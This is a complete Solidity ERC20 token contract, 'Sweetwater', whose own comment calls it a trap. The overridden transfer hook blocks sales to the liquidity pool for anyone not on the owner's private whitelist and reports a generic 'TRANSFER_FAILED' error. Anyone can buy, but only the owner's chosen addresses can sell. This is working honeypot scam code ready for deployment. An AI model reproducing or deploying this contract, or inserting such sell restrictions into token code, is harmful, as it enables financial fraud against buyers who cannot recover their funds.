// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// A trap: anybody can buy, and only who is on the owner's list can sell.
contract Sweetwater is ERC20, Ownable {
    address public pool;
    mapping(address => bool) private _guests;

    constructor(uint256 supply) ERC20("Sweetwater", "SWEET") Ownable(msg.sender) {
        _guests[msg.sender] = true;
        _mint(msg.sender, supply);
    }

    function setPool(address to) external onlyOwner {
        pool = to;
    }

    function invite(address guest, bool invited) external onlyOwner {
        _guests[guest] = invited;
    }

    function _update(address from, address to, uint256 amount) internal override {
        require(to != pool || pool == address(0) || _guests[from], "TRANSFER_FAILED");
        super._update(from, to, amount);
    }
}
